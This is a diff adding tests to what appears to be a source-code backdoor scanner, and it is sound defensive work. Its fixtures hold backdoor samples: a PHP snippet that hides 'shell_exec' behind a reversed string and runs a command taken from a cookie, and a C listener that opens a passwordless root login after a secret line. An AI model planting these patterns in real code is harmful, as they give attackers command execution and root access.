@@ -264,3 +264,22 @@ def test_command_stored_character_by_character_is_rebuilt():
     # a plain word rebuilt that way is no command channel: a lead at most
     plain = src.replace(stores, "".join(f"  local_100[{i}] = '{c}';\n" for i, c in enumerate("reboot")))
     assert rules("src/update.c", "c", plain.replace(f"local_100[{len(cmd)}]", "local_100[6]")) == []
+
+
+def test_php_function_name_computed_from_literals():
+    src = ("<?php\n$fmt = strrev('cexe_llehs');\nif (($_COOKIE['xs'] ?? '') !== '') {\n"
+           "    echo call_user_func($fmt, ($_COOKIE['xs'] ?? ''));\n}\n")
+    [f] = findings("lib/util.php", "php", src)
+    assert f.rule == "source.request-executed" and "shell_exec" in f.message
+    # a computed name that is no sink runs nothing
+    assert findings("lib/util.php", "php", src.replace("cexe_llehs", "tnirp_r")) == []
+
+
+def test_login_without_password_on_a_listener_behind_a_secret_line():
+    src = ('static void *lan_helper(void *arg) { int s = socket(AF_INET, SOCK_STREAM, 0), c;\n'
+           ' bind(s, (struct sockaddr *)&a, sizeof a); listen(s, 1);\n for (;;) { c = accept(s, NULL, NULL);\n'
+           '  if (fork() == 0) { char line[64]; ssize_t n = read(c, line, sizeof(line) - 1);\n'
+           '   if (n <= 0) _exit(0);\n   line[n] = 0;\n   if (strcmp(line, "if#-+_uQ%qcY") != 0) _exit(0);\n'
+           '   dup2(c, 0); dup2(c, 1); dup2(c, 2);\n   execl("/bin/login", "login", "-f", "root", (char *)NULL); } } }\n')
+    assert rules("src/main.c", "c", src) == ["source.magic-input-command"]
+    assert rules("src/main.c", "c", src.replace('"-f", "root"', '"root"')) == []
